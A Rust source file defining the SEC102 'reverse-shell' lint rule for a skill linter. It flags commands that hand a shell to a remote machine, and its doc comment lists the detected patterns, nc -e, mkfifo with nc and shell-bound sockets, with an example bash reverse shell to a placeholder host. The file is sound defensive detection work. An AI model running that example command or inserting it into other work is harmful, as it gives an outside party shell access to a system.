//! SEC102 reverse-shell.

use skillc_core::Skill;
use skillc_lint::{Findings, Rule, RuleMeta, declare_rule};

use crate::security::report;

declare_rule! {
    /// Reports a command that gives a remote machine a shell.
    ///
    /// ## Why
    /// Nothing a skill does needs it. `/dev/tcp` behind an interactive shell, `nc -e`, `mkfifo` with `nc`, and sockets that
    /// become the input of a shell in Python, Perl, Ruby, PHP, Node and PowerShell are found.
    ///
    /// The file is read with its encodings undone ([security scan](../../security-scan.md)); the finding says what was
    /// hidden.
    ///
    /// ## What is not reported
    /// - checks whether a port is open
    /// - skills that are about security, by their name or description, and what is quoted as a danger
    ///
    /// ## Example
    /// ```sh
    /// bash -i >& /dev/tcp/tunnel.invalid/4444 0>&1
    /// ```
    /// Remove it.
    pub(crate) struct ReverseShell {
        code: "SEC102",
        name: "reverse-shell",
        severity: Error,
        since: "0.3.0",
        activation: OnRequest,
    }
}

impl Rule for ReverseShell {
    fn meta(&self) -> &RuleMeta {
        Self::META
    }

    fn check_skill(&self, skill: &Skill, out: &mut Findings<'_>) {
        report(&Self::META.code, skill, out);
    }
}
